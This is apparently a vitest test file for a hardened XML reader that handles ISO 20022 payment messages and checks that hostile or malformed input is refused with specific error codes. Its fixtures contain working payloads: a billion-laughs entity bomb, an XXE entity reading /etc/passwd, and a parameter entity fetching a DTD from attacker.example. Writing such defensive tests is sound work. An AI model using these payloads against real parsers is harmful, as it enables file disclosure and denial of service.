import { describe, expect, it } from 'vitest';
import { safeParseCamt054 } from '../../src/camt054';
import {
  DEFAULT_MAX_BYTES,
  XmlError,
  decodeEntities,
  readIsoMessage,
  safeReadIsoMessage,
  type ExpectedMessage,
} from '../../src/internal/xml';
import { safeParsePain002 } from '../../src/pain002';

const PAIN002: ExpectedMessage = { family: 'pain.002', messageElement: 'CstmrPmtStsRpt', versions: ['001.03', '001.10'] };
const NS = 'urn:iso:std:iso:20022:tech:xsd:pain.002.001.03';
const ok = `<?xml version="1.0" encoding="UTF-8"?><Document xmlns="${NS}"><CstmrPmtStsRpt><GrpHdr><MsgId>A &amp; B &#x41;&#66;</MsgId></GrpHdr></CstmrPmtStsRpt></Document>`;

function code(xml: string | Uint8Array, limits = {}): string | undefined {
  const result = safeReadIsoMessage(xml, PAIN002, limits);
  return result.ok ? undefined : result.issues[0]?.code;
}

// Classic attack documents: OWASP XXE Prevention Cheat Sheet, "billion laughs" (CVE-2003-1564).
const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<Document xmlns="${NS}"><CstmrPmtStsRpt><GrpHdr><MsgId>&lol9;</MsgId></GrpHdr></CstmrPmtStsRpt></Document>`;
const EXTERNAL_ENTITY = `<?xml version="1.0"?><!DOCTYPE Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Document xmlns="${NS}"><CstmrPmtStsRpt><GrpHdr><MsgId>&xxe;</MsgId></GrpHdr></CstmrPmtStsRpt></Document>`;
const PARAMETER_ENTITY = `<?xml version="1.0"?><!DOCTYPE Document [<!ENTITY % remote PUBLIC "-//x//y" "http://attacker.example/evil.dtd"> %remote;]><Document xmlns="${NS}"/>`;

describe('hostile inputs: each refused with its own code, before parsing', () => {
  it('reads a good document, decoding only the predefined and numeric references', () => {
    const read = readIsoMessage(ok, PAIN002);
    expect(read.messageName).toBe('pain.002.001.03');
    expect(read.version).toBe('001.03');
    expect((read.message.GrpHdr as Record<string, string>).MsgId).toBe('A &amp; B &#x41;&#66;');
    expect(decodeEntities('A &amp; B &#x41;&#66; &lt;x&gt; &quot;&apos;')).toBe('A & B AB <x> "\'');
    expect(safeParsePain002(ok.replace('</GrpHdr>', '</GrpHdr><OrgnlGrpInfAndSts><OrgnlMsgId>X</OrgnlMsgId></OrgnlGrpInfAndSts>')).ok).toBe(true);
  });

  it('billion laughs → xml/entity-forbidden', () => {
    expect(code(BILLION_LAUGHS)).toBe('xml/entity-forbidden');
  });

  it('an external entity (XXE) → xml/external-entity-forbidden', () => {
    expect(code(EXTERNAL_ENTITY)).toBe('xml/external-entity-forbidden');
    expect(code(PARAMETER_ENTITY)).toBe('xml/external-entity-forbidden');
  });

  it('a bare DOCTYPE → xml/doctype-forbidden; other declarations are malformed', () => {
    expect(code(`<!DOCTYPE Document><Document xmlns="${NS}"/>`)).toBe('xml/doctype-forbidden');
    expect(code(`<!doctype Document SYSTEM "http://x.example/a.dtd"><Document xmlns="${NS}"/>`)).toBe('xml/doctype-forbidden');
    expect(code(`<Document xmlns="${NS}"><!ELEMENT a ANY></Document>`)).toBe('xml/malformed');
  });

  it('an entity reference XML does not define → xml/unknown-entity; a bare & → xml/malformed', () => {
    expect(code(ok.replace('&amp;', '&nbsp;'))).toBe('xml/unknown-entity');
    expect(code(ok.replace('&amp;', '& '))).toBe('xml/malformed');
    // Inside CDATA a & is text.
    expect(code(ok.replace('A &amp; B', '<![CDATA[A & B]]>'))).toBeUndefined();
  });

  it('a 10 MB text node → xml/text-too-long', () => {
    const big = ok.replace('A &amp; B', 'x'.repeat(10 * 1024 * 1024));
    expect(code(big)).toBe('xml/text-too-long');
    expect(safeParseCamt054(big).ok).toBe(false);
  });

  it('a document over maxBytes → xml/too-large (text or bytes)', () => {
    expect(DEFAULT_MAX_BYTES).toBe(50 * 1024 * 1024);
    expect(code(ok, { maxBytes: 100 })).toBe('xml/too-large');
    expect(code(new TextEncoder().encode(ok), { maxBytes: 100 })).toBe('xml/too-large');
    // Multi-byte characters count as bytes.
    const norwegian = ok.replace('A &amp; B', 'æøå'.repeat(20));
    expect(code(norwegian, { maxBytes: norwegian.length + 10 })).toBe('xml/too-large');
  });

  it('truncated XML → xml/truncated', () => {
    expect(code(ok.slice(0, ok.length - 20))).toBe('xml/truncated');
    expect(code(ok.slice(0, ok.length - 1))).toBe('xml/truncated');
    expect(code(ok.slice(0, 80))).toBe('xml/truncated');
  });

  it('malformed XML → xml/malformed with the line', () => {
    const result = safeReadIsoMessage(ok.replace('</MsgId>', '</MsgID>'), PAIN002);
    expect(result.ok).toBe(false);
    if (!result.ok) {
      expect(result.issues[0]?.code).toBe('xml/malformed');
      expect(result.issues[0]?.message).toMatch(/line 1/);
    }
    expect(code('not xml at all')).toBe('xml/malformed');
    expect(code(`<Document xmlns="${NS}"><__proto__>x</__proto__></Document>`)).toBe('xml/malformed');
  });

  it('wrong namespace, wrong version, wrong root → their own codes', () => {
    expect(code(ok.replace(NS, 'urn:iso:std:iso:20022:tech:xsd:camt.054.001.02'))).toBe('xml/wrong-namespace');
    expect(code(ok.replace(` xmlns="${NS}"`, ''))).toBe('xml/wrong-namespace');
    expect(code(ok.replace(NS, 'urn:iso:std:iso:20022:tech:xsd:pain.002.001.05'))).toBe('xml/unsupported-version');
    expect(code(ok.replaceAll('Document', 'Dokument'))).toBe('xml/wrong-root');
    expect(code(ok.replaceAll('CstmrPmtStsRpt', 'CstmrCdtTrfInitn'))).toBe('xml/wrong-root');
  });

  it('a prefixed namespace is read like a default one', () => {
    const prefixed = `<p:Document xmlns:p="${NS}"><p:CstmrPmtStsRpt><p:GrpHdr><p:MsgId>X</p:MsgId></p:GrpHdr></p:CstmrPmtStsRpt></p:Document>`;
    expect(code(prefixed)).toBeUndefined();
  });

  it('too deep nesting → xml/too-deep; empty input → xml/empty; not UTF-8 → xml/invalid-encoding', () => {
    const deep = `<Document xmlns="${NS}">${'<a>'.repeat(200)}${'</a>'.repeat(200)}</Document>`;
    expect(code(deep)).toBe('xml/too-deep');
    expect(code('   ')).toBe('xml/empty');
    expect(code(new Uint8Array([0x3c, 0xff, 0xfe, 0x3e]))).toBe('xml/invalid-encoding');
    expect(code(42 as unknown as string)).toBe('xml/not-text');
  });

  it('the throwing form throws an XmlError', () => {
    expect(() => readIsoMessage(BILLION_LAUGHS, PAIN002)).toThrow(XmlError);
  });
});
